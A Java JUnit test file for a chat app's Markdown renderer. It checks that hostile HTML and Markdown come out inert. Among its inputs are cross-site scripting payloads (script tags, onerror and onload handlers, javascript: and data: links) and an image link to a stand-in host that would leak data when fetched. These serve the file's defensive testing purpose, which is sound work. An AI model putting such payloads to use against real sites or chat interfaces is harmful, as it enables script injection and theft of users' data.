package dev.streamchat.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** The renderer's output: what chat answers need, and hostile Markdown and HTML kept inert. */
class MarkdownTest {

  private static final Set<String> SAFE_TAGS = Set.of("p", "a", "em", "strong", "code", "pre", "ul", "ol", "li",
      "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr", "br", "del", "table", "thead", "tbody", "tr", "th",
      "td", "div", "span", "button");
  private static final Set<String> SAFE_ATTRIBUTES = Set.of("href", "rel", "target", "class", "start", "align",
      "type", "aria-label", "data-lang", "title");
  private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z0-9]+)([^>]*)>");
  private static final Pattern ATTR = Pattern.compile("\\s([a-zA-Z-]+)=\"([^\"]*)\"");

  static String html(String markdown) {
    return MarkdownRenderer.get().toHtml(markdown);
  }

  /** Every real tag of {@code html} (text is escaped, so every '<' is one) is harmless. */
  static void assertInertHtml(String html) {
    Matcher tag = TAG.matcher(html);
    while (tag.find()) {
      String name = tag.group(2).toLowerCase(Locale.ROOT);
      assertTrue(SAFE_TAGS.contains(name), "<" + name + "> in " + html);
      Matcher attr = ATTR.matcher(tag.group(3));
      int attributes = 0;
      while (attr.find()) {
        attributes++;
        String key = attr.group(1).toLowerCase(Locale.ROOT);
        assertTrue(SAFE_ATTRIBUTES.contains(key), key + " in " + html);
        if (key.equals("href")) {
          String href = attr.group(2).toLowerCase(Locale.ROOT).strip();
          assertTrue(href.isEmpty() || href.startsWith("http://") || href.startsWith("https://")
              || href.startsWith("mailto:"), href + " in " + html);
        }
      }
      // Nothing but name="value" pairs: no attribute slipped in unquoted.
      assertEquals(tag.group(3).replaceAll("\\s*/$", "").strip().isEmpty() ? 0 : attributes,
          tag.group(3).split("=\"", -1).length - 1, "attributes of " + tag.group());
    }
    assertFalse(html.replaceAll("<[^>]*>", "").contains("<"), "stray '<' in " + html);
  }

  private static void assertInert(String markdown) {
    assertInertHtml(html(markdown));
  }

  @Test
  void rawHtmlIsEscaped() {
    assertInert("<script>alert(1)</script>");
    assertInert("<img src=x onerror=alert(2)>");
    assertInert("<svg onload=alert(4)>");
    assertInert("<div hx-get=\"/x\" hx-trigger=\"load\">x</div>");
    assertInert("<iframe src=\"http://evil.example\"></iframe>");
    assertInert("<pre>\n\n**x**\n</pre>");
    assertTrue(html("<script>alert(1)</script>").contains("&lt;script&gt;"));
  }

  @Test
  void scriptLinksLoseTheirTarget() {
    assertInert("[click](javascript:alert(3))");
    assertInert("[click](JaVaScRiPt:alert(3))");
    assertInert("<javascript:alert(3)>");
    assertInert("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)");
    assertEquals("<p><a rel=\"nofollow noopener noreferrer\" href=\"https://example.com\" target=\"_blank\">ok</a></p>\n",
        html("[ok](https://example.com)"));
    assertTrue(html("write to a@example.com").contains("href=\"mailto:a@example.com\""));
  }

  @Test
  void imagesBecomeLinksSoNothingIsFetched() {
    String html = html("![secret](http://evil.example/leak?q=data)");
    assertFalse(html.contains("<img"), html);
    assertTrue(html.contains("href=\"http://evil.example/leak?q=data\""), html);
    assertTrue(html.contains(">secret</a>"), html);
    assertInert("![x](javascript:alert(1))");
  }

  @Test
  void tablesStrikethroughAndAutolinksAreOn() {
    String table = html("| a | b |\n|:--|--:|\n| **1** | <i>2</i> |\n");
    assertTrue(table.startsWith("<table>"), table);
    assertTrue(table.contains("<td align=\"left\"><strong>1</strong></td>"), table);
    assertTrue(table.contains("&lt;i&gt;2&lt;/i&gt;"), table);
    assertInertHtml(table);
    assertEquals("<p><del>gone</del> but ~5 minutes stays</p>\n", html("~~gone~~ but ~5 minutes stays"));
    assertTrue(html("see https://example.com/x.").contains("href=\"https://example.com/x\""));
  }

  @Test
  void codeBlocksNameTheirLanguageAndHaveACopyButton() {
    assertEquals("<div class=\"codeblock\" data-lang=\"python\"><button type=\"button\" class=\"code-copy\" "
            + "aria-label=\"Copy code\"></button><pre><code class=\"language-python\">print(&quot;&lt;b&gt;&quot;)\n"
            + "</code></pre></div>\n",
        html("```python\nprint(\"<b>\")\n```\n"));
    String hostileInfo = html("```\"><script>alert(1)</script>\nx\n```\n");
    assertFalse(hostileInfo.contains("data-lang"), hostileInfo);
    assertInertHtml(hostileInfo);
  }

  @Test
  void mathIsKeptVerbatimForKatex() {
    assertEquals("<p>so <span class=\"math math-inline\">a_1 * b_1 * c</span> holds</p>\n", html("so $a_1 * b_1 * c$ holds"));
    assertEquals("<p><span class=\"math math-inline\">\\alpha_{x}</span></p>\n", html("\\(\\alpha_{x}\\)"));
    assertEquals("<div class=\"math math-display\">\\frac{a}{b}\n= c_1</div>\n", html("$$\n\\frac{a}{b}\n= c_1\n$$\n"));
    assertEquals("<div class=\"math math-display\">x^2</div>\n", html("\\[ x^2 \\]"));
    assertEquals("<div class=\"math math-display\">y</div>\n", html("\\[\ny\n\\]\n"));
    assertEquals("<p>It costs $5 and $10.</p>\n", html("It costs $5 and $10."));
    assertEquals("<p>an escaped $ stays text, \\( too</p>\n", html("an escaped \\$ stays text, \\\\( too"));
    String hostile = html("$<script>alert(1)</script>$ and $$\n<img src=x onerror=alert(2)>\n$$\n");
    assertTrue(hostile.contains("&lt;script&gt;"), hostile);
    assertInertHtml(hostile);
  }

  @Test
  void referenceDefinitionsShowAsTextAndReachNoOtherBlock() {
    String html = html("See [the docs][1].\n\n[1]: https://example.com/docs\n");
    assertEquals("<p>See [the docs][1].</p>\n<p>[1]: <a rel=\"nofollow noopener noreferrer\" "
        + "href=\"https://example.com/docs\" target=\"_blank\">https://example.com/docs</a></p>\n", html);
  }
}
